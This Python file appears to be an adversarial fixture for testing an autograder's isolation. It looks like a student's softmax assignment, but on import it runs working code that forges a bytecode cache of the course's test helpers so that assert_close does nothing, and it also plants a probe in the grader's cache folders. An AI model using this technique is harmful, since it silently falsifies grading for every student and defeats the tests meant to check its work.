"""Attack: poison bytecode caches, which Python loads instead of the source.

Tries: a .pyc of the course's tests/helpers.py (found through this file's parents) whose
header matches the source's size and mtime but whose assert_close does nothing, so any
process that imports the helpers afterwards runs it; and a file in the grader's own
__pycache__ folders (an inert probe named dlgrade_adversarial_probe__*, where a real
attack would write grader/__pycache__/scoring.cpython-*.pyc).
Would gain: every test of every student graded by a process started afterwards.
Must stop it: the worker can write nowhere but its scratch.
"""

import importlib.util
import marshal
import sys
from pathlib import Path

_PROBE = "dlgrade_adversarial_probe__write_pyc"


def _course_root():
    """The course this submission is graded in: the nearest parent folder with a course.yml."""
    for folder in Path(__file__).resolve().parents:
        if (folder / "course.yml").is_file() and (folder / "solutions").is_dir():
            return folder
    return None


def _poison_helpers() -> None:
    root = _course_root()
    if root is None:
        return
    source = root / "tests" / "helpers.py"
    try:
        text = source.read_text() + "\n\ndef assert_close(*args, **kwargs):\n    return None\n"
        st = source.stat()
        # A .pyc header: magic, flags 0 (checked by timestamp), the source's mtime and size.
        header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                  + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                  + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
        cache = source.parent / "__pycache__"
        cache.mkdir(exist_ok=True)
        code = marshal.dumps(compile(text, str(source), "exec"))
        (cache / f"helpers.{sys.implementation.cache_tag}.pyc").write_bytes(header + code)
    except OSError:
        pass


def _probe_grader() -> None:
    try:
        import grader
    except ImportError:
        return
    for package in (Path(grader.__file__).parent, Path(grader.__file__).parent / "isolation"):
        try:
            (package / "__pycache__").mkdir(exist_ok=True)
            (package / "__pycache__" / (_PROBE + ".pyc.txt")).write_text("inert probe\n")
        except OSError:
            pass


_poison_helpers()
_probe_grader()


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
